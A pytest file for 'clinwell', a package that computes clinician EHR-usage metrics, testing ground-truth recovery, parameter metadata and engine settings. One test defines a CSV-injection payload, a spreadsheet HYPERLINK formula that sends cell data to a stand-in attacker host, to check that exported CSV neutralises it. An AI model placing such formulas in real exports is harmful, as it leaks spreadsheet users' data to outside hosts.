"""The planted ground truth is recovered exactly; results carry their parameters."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from clinwell.ehr import MetricParams, compute_metrics, read_metadata, sidecar_path, write_metrics
from clinwell.synth.audit_log import AuditLog, generate_audit_log


@pytest.mark.parametrize("period", ["week", "month"])
@pytest.mark.parametrize(("wow_mode", "buffer"), [("schedule", 0), ("schedule", 60), ("clock", 0)])
def test_recovers_planted_truth(
    small_log: AuditLog, period: str, wow_mode: str, buffer: int
) -> None:
    log = small_log
    got = compute_metrics(
        log.events,
        log.schedule,
        log.actions,
        log.orders,
        params=MetricParams(period=period, wow_mode=wow_mode, buffer_minutes=buffer),  # type: ignore[arg-type]
    ).metrics
    pd.testing.assert_frame_equal(got, log.truth(period, wow_mode), check_exact=True)


def test_recovers_planted_truth_with_cap_and_other_timeout() -> None:
    log = generate_audit_log(clinicians=3, days=21, seed=5, idle_timeout=120, gap_rule="cap")
    got = compute_metrics(
        log.events,
        log.schedule,
        log.actions,
        log.orders,
        params=MetricParams(idle_timeout=120, gap_rule="cap"),
    ).metrics
    pd.testing.assert_frame_equal(got, log.truth(), check_exact=True)
    dropped = compute_metrics(
        log.events, log.schedule, log.actions, params=MetricParams(idle_timeout=120)
    ).metrics
    assert (got["ehr_hours"] > dropped["ehr_hours"]).any()


def test_parameters_stored_in_parquet_and_sidecar(tmp_path: Path, small_log: AuditLog) -> None:
    result = compute_metrics(
        small_log.events,
        small_log.schedule,
        small_log.actions,
        params=MetricParams(idle_timeout=240, buffer_minutes=15),
    )
    out = tmp_path / "metrics.parquet"
    side = write_metrics(result, out)
    assert side == sidecar_path(out) == tmp_path / "metrics.params.json"
    meta = read_metadata(out)
    assert meta["parameters"]["idle_timeout"] == 240
    assert meta["parameters"]["buffer_minutes"] == 15
    assert meta["parameters"]["gap_rule"] == "drop"
    assert meta["run"]["engine"] == "duckdb"
    assert meta["run"]["memory_limit"] == "50%"
    assert json.loads(side.read_text())["parameters"] == meta["parameters"]
    back = pq.read_table(out).to_pandas()
    assert list(back.columns) == list(result.metrics.columns)
    assert len(back) == len(result.metrics)


def test_csv_output_with_sidecar(tmp_path: Path, small_log: AuditLog) -> None:
    result = compute_metrics(small_log.events, small_log.schedule, small_log.actions)
    side = write_metrics(result, tmp_path / "m.csv")
    assert json.loads(side.read_text())["parameters"]["period"] == "week"
    assert len(pd.read_csv(tmp_path / "m.csv")) == len(result.metrics)


def test_result_unpacks(small_log: AuditLog) -> None:
    metrics, params, problems, run, *_ = compute_metrics(
        small_log.events, small_log.schedule, small_log.actions
    )
    assert params.idle_timeout == 300
    assert run["events_counted"] == len(small_log.events)
    assert [p.kind for p in problems] == ["unmapped_action"]
    assert len(metrics) > 0


def test_spill_settings_are_applied(tmp_path: Path, small_log: AuditLog) -> None:
    from clinwell.ehr import connect

    con = connect("duckdb", memory_limit="256MB", temp_directory=str(tmp_path / "spill"))
    settings = con.raw_sql(
        "SELECT current_setting('memory_limit'), current_setting('temp_directory')"
    ).fetchall()[0]
    assert settings[0] == "244.1 MiB"
    assert settings[1] == str(tmp_path / "spill")
    got = compute_metrics(
        small_log.events, small_log.schedule, small_log.actions, small_log.orders, con=con
    ).metrics
    pd.testing.assert_frame_equal(got, small_log.truth(), check_exact=True)


def test_engine_options_that_cannot_work_are_parameter_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Bad engine options raise ParameterError naming the parameter (the CLI turns it into a
    one-line usage error), not an engine-specific exception."""
    from clinwell.ehr import ParameterError, connect

    with pytest.raises(ParameterError) as bad_limit:
        connect("duckdb", memory_limit="lots")
    assert bad_limit.value.parameter == "memory_limit"
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    with pytest.raises(ParameterError) as bad_temp:
        connect("duckdb", temp_directory=str(blocker / "spill"))
    assert bad_temp.value.parameter == "temp_directory"
    monkeypatch.setitem(sys.modules, "pyspark.sql", None)  # as if pyspark were not installed
    with pytest.raises(ParameterError, match="pyspark is not installed") as no_spark:
        connect("pyspark")
    assert no_spark.value.parameter == "engine"


FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


def test_csv_output_keeps_a_formula_like_clinician_id_as_text(
    tmp_path: Path, small_log: AuditLog
) -> None:
    """A clinician id that a spreadsheet would run as a formula is written as text ('=...) in
    CSV (CSV injection, clinwell.spreadsheet); Parquet keeps the id as it is."""
    import csv

    first = str(small_log.events["clinician_id"].iloc[0])
    rename = {"clinician_id": lambda d: d["clinician_id"].astype(str).replace(first, FORMULA_ID)}
    events = small_log.events.assign(**rename)
    schedule = small_log.schedule.assign(**rename)
    result = compute_metrics(events, schedule, small_log.actions)
    assert FORMULA_ID in set(result.metrics["clinician_id"])
    write_metrics(result, tmp_path / "m.csv")
    with (tmp_path / "m.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    ids = {row["clinician_id"] for row in rows}
    assert "'" + FORMULA_ID in ids
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    assert len(rows) == len(result.metrics)
    write_metrics(result, tmp_path / "m.parquet")
    assert FORMULA_ID in set(pd.read_parquet(tmp_path / "m.parquet")["clinician_id"])
